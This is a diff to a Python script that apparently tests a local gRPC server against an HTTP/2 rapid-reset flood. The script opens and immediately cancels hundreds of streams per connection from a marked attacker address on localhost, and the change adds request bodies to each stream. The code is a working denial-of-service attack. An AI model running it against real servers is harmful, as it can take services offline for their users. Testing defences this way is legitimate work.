@@ -9,8 +9,8 @@ import struct
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
-END_HEADERS = 4
+DATA, HEADERS, RST_STREAM, SETTINGS = 0, 1, 3, 4
+END_STREAM, END_HEADERS = 1, 4
 CANCEL = 8
 LARGEST_STREAM = 2**31 - 1
 ATTACKER = "127.0.0.2"
@@ -32,24 +32,25 @@ def header_block(**headers):
     return block
 
 
-def attack(port, path, seconds):
-    """Opens streams on one connection to 127.0.0.1:port and resets each at once.
+def attack(port, path, request, seconds):
+    """Asks on one connection to 127.0.0.1:port, stream after stream, and resets each at once.
 
     Comes from ATTACKER, so that others are told from it. Connects again whenever it is cut off. Returns how many streams it reset.
     """
     block = header_block(__method="POST", __scheme="http", __path=path, __authority="localhost",
                          content_type="application/grpc", te="trailers")
+    message = struct.pack(">BI", 0, len(request)) + request
     end, resets = time.monotonic() + seconds, 0
     while time.monotonic() < end:
         with socket.create_connection(("127.0.0.1", port), timeout=1, source_address=(ATTACKER, 0)) as connection:
             try:
-                resets += reset_streams(connection, block, end)
+                resets += reset_streams(connection, block, message, end)
             except OSError:
                 pass  # cut off, or not read any more: again
     return resets
 
 
-def reset_streams(connection, block, end):
+def reset_streams(connection, block, message, end):
     """The attack on one connection, until its time or its stream numbers end."""
     connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
     cancel = struct.pack(">I", CANCEL)
@@ -59,7 +60,8 @@ def reset_streams(connection, block, end):
             break
         streams = range(first, first + 200, 2)
         connection.sendall(b"".join(
-            frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel) for stream in streams))
+            frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message)
+            + frame(RST_STREAM, 0, stream, cancel) for stream in streams))
         resets += len(streams)
         read_what_came(connection)
     return resets
